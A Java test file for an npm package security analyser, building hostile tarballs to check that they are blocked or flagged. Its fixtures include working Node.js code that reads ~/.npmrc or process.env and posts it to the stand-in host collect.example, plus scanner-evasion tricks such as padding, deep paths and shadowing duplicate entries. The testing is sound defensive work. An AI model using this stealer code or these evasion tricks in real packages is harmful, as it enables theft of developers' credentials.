package dev.portcullis.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.model.Finding;
import dev.portcullis.model.Verdict;
import dev.portcullis.policy.VerdictThresholds;
import dev.portcullis.tarball.TarballLimits;
import dev.portcullis.tarball.TarballReader;
import dev.portcullis.testkit.TarballBuilder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The hostile-input campaign of issue 14 against package analysis: tarballs built here, read by the real reader and
 * judged by the real rules. Each case names the campaign item it regresses (docs/hostile-inputs.md has the table).
 */
class HostilePackagesTest {
    private static final PackageAnalyzer ANALYZER = PackageAnalyzer.withDefaultRules();
    /** Sends ~/.npmrc away: blocks wherever node runs it. */
    private static final String STEALER = """
            const fs = require('fs');
            const os = require('os');
            const https = require('https');
            const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
            https.request({ host: 'collect.example', method: 'POST' }).end(rc);
            """;

    private static TarballBuilder manifest(String scripts) {
        return TarballBuilder.tarball().file("package/package.json",
                "{\"name\":\"hostile\",\"version\":\"1.0.0\"" + scripts + "}");
    }

    private static PackageAnalysis analyse(TarballBuilder tarball, TarballLimits limits) throws IOException {
        return ANALYZER.analyze(PackageInput.of(TarballReader.read(new ByteArrayInputStream(tarball.build()), limits)));
    }

    private static PackageAnalysis analyse(TarballBuilder tarball) throws IOException {
        return analyse(tarball, TarballLimits.defaults());
    }

    private static Verdict verdict(PackageAnalysis analysis) {
        return analysis.verdict(VerdictThresholds.defaults());
    }

    private static List<String> rules(PackageAnalysis analysis) {
        return analysis.findings().stream().map(f -> f.rule().id()).distinct().sorted().toList();
    }

    // Item 1: whatever node is told to run is JavaScript, whatever its name.

    static Stream<Arguments> item1_filesNodeRunsAreJavaScript() {
        return Stream.of(
                Arguments.of("extensionless, run by postinstall", "{\"postinstall\":\"node lib/setup\"}",
                        "lib/setup", ""),
                Arguments.of(".dat, run by postinstall", "{\"postinstall\":\"node install.dat\"}", "install.dat", ""),
                Arguments.of("'..' in the script path", "{\"postinstall\":\"node ./scripts/../lib/helper\"}",
                        "lib/helper", ""),
                Arguments.of("required by node -e", "{\"install\":\"node -e \\\"require('./x')\\\"\"}", "x", ""),
                Arguments.of("required by install-time code", "{\"postinstall\":\"node index.js\"}", "payload.txt",
                        "require('./payload.txt');\n"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void item1_filesNodeRunsAreJavaScript(String what, String scripts, String payload, String index)
            throws IOException {
        TarballBuilder tarball = manifest(",\"scripts\":" + scripts).file("package/" + payload, STEALER);
        if (!index.isEmpty()) {
            tarball.file("package/index.js", index);
        }
        PackageAnalysis analysis = analyse(tarball);
        assertThat(verdict(analysis)).as(what).isEqualTo(Verdict.BLOCK);
        assertThat(analysis.findings()).as(what).extracting(f -> f.location().file()).contains(payload);
    }

    @Test
    void item1_binAndMainTargetsAreJavaScript() throws IOException {
        PackageAnalysis analysis = analyse(TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"hostile\",\"version\":\"1.0.0\",\"main\":\"lib/entry\","
                        + "\"bin\":{\"hostile\":\"bin/cli\"},\"exports\":{\".\":\"./lib/entry\",\"./x\":\"./lib/x.data\"}}")
                .file("package/lib/entry", STEALER)
                .file("package/bin/cli", STEALER)
                .file("package/lib/x.data", STEALER));
        assertThat(analysis.findings()).filteredOn(f -> f.rule().id().equals("content/credential-exfiltration"))
                .extracting(f -> f.location().file()).contains("lib/entry", "bin/cli", "lib/x.data");
    }

    @Test
    void item1_aDataFileNothingRunsStaysData() throws IOException {
        PackageAnalysis analysis = analyse(manifest("").file("package/index.js", "module.exports = 1;\n")
                .file("package/notes.txt", STEALER));
        assertThat(analysis.findings()).isEmpty();
    }

    // Item 2: a limit does not hide the entries after it.

    private static TarballBuilder payloadAfter(TarballBuilder front) {
        return front.file("package/package.json",
                        "{\"name\":\"hostile\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node index.js\"}}")
                .file("package/index.js", STEALER);
    }

    @Test
    void item2_aTooDeepEntryFirstDoesNotHideThePayload() throws IOException {
        String deep = "package/" + "d/".repeat(70) + "f.js";
        PackageAnalysis analysis = analyse(payloadAfter(TarballBuilder.tarball().file(deep, "1;\n")));
        assertThat(verdict(analysis)).isEqualTo(Verdict.BLOCK);
        assertThat(rules(analysis)).contains("content/credential-exfiltration", "content/tarball-bomb");
    }

    @Test
    void item2_aTooLongNameFirstDoesNotHideThePayload() throws IOException {
        String longName = "package/" + "n".repeat(1_210) + ".js";
        PackageAnalysis analysis = analyse(payloadAfter(TarballBuilder.tarball().paxNames().file(longName, "1;\n")));
        assertThat(verdict(analysis)).isEqualTo(Verdict.BLOCK);
        assertThat(rules(analysis)).contains("content/credential-exfiltration", "content/tarball-bomb");
    }

    @Test
    void item2_aTooLargeFileFirstDoesNotHideThePayload() throws IOException {
        TarballLimits small = withFileBytes(TarballLimits.defaults(), 64 * 1024);
        PackageAnalysis analysis = analyse(payloadAfter(TarballBuilder.tarball()
                .file("package/blob.bin", new byte[200 * 1024], 0644)), small);
        assertThat(verdict(analysis)).isEqualTo(Verdict.BLOCK);
        assertThat(rules(analysis)).contains("content/credential-exfiltration", "content/tarball-large-file");
    }

    @Test
    void item2_tooManyEntriesIsAtLeastReviewWithTheLimitNamed() throws IOException {
        TarballBuilder front = TarballBuilder.tarball();
        for (int i = 0; i <= 20_000; i++) {
            front.file("package/e/" + i, "");
        }
        PackageAnalysis analysis = analyse(payloadAfter(front));
        assertThat(verdict(analysis)).isIn(Verdict.REVIEW, Verdict.BLOCK);
        assertThat(analysis.findings()).filteredOn(f -> f.rule().id().equals("content/tarball-bomb"))
                .extracting(Finding::evidence).anyMatch(m -> m.contains("ENTRIES"));
    }

    // Item 4: split across files. Joined when both run at install (scope install-flow); see docs/hostile-inputs.md.

    @Test
    void item4_environmentExportedByOneInstallTimeFileAndSentByAnotherBlocks() throws IOException {
        PackageAnalysis analysis = analyse(manifest(",\"scripts\":{\"postinstall\":\"node b.js\"}")
                .file("package/a.js", "module.exports = process.env;\n")
                .file("package/b.js", """
                        const env = require('./a');
                        const https = require('https');
                        https.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(env));
                        """));
        assertThat(verdict(analysis)).isEqualTo(Verdict.BLOCK);
    }

    // Item 3 and 10: a file too large to analyse that install-time code runs.

    @Test
    void item3_anInstallTimeFileBeyondTheAnalysisLimitIsAtLeastReview() throws IOException {
        // The per-file analysis limit (JsLimits) is 64 MiB by default; a smaller analyser shows the same rule.
        PackageAnalyzer small = new PackageAnalyzer(PackageAnalyzer.defaultRules(), new JsFactExtractor(
                PackageAnalyzer.patterns(PackageAnalyzer.defaultRules()), smallJs(4096)));
        byte[] padded = (("/*" + " ".repeat(8192) + "*/\n") + STEALER).getBytes(StandardCharsets.UTF_8);
        PackageAnalysis analysis = small.analyze(PackageInput.of(TarballReader.read(new ByteArrayInputStream(
                manifest(",\"scripts\":{\"postinstall\":\"node index.js\"}").file("package/index.js", padded, 0644)
                        .build()), TarballLimits.defaults())));
        assertThat(verdict(analysis)).isIn(Verdict.REVIEW, Verdict.BLOCK);
        assertThat(rules(analysis)).contains("content/install-code-unanalysed");
    }

    // Duplicate entries.

    @Test
    void duplicates_maliciousFirstBenignSecondIsAtLeastReview() throws IOException {
        PackageAnalysis analysis = analyse(manifest(",\"scripts\":{\"postinstall\":\"node index.js\"}")
                .file("package/index.js", STEALER)
                .file("package/index.js", "module.exports = 1;\n"));
        assertThat(rules(analysis)).contains("content/tarball-shadowed-entry");
        assertThat(verdict(analysis)).isIn(Verdict.REVIEW, Verdict.BLOCK);
    }

    @Test
    void duplicates_identicalCopiesAreStillReported() throws IOException {
        PackageAnalysis analysis = analyse(manifest("")
                .file("package/index.js", "module.exports = 1;\n")
                .file("./package/index.js", "module.exports = 1;\n"));
        assertThat(rules(analysis)).contains("content/tarball-irregular");
    }

    static TarballLimits withFileBytes(TarballLimits l, long fileBytes) {
        return new TarballLimits(l.maxTotalBytes(), l.maxEntries(), fileBytes, l.maxCompressionRatio(),
                l.ratioGraceBytes(), l.maxPathLength(), l.maxPathDepth());
    }

    static dev.portcullis.js.JsLimits smallJs(long fileBytes) {
        dev.portcullis.js.JsLimits d = dev.portcullis.js.JsLimits.defaults();
        return new dev.portcullis.js.JsLimits(d.maxDecodeDepth(), d.maxEvidenceChars(), d.maxFactsPerFile(), fileBytes,
                d.maxDecodedBytes());
    }
}
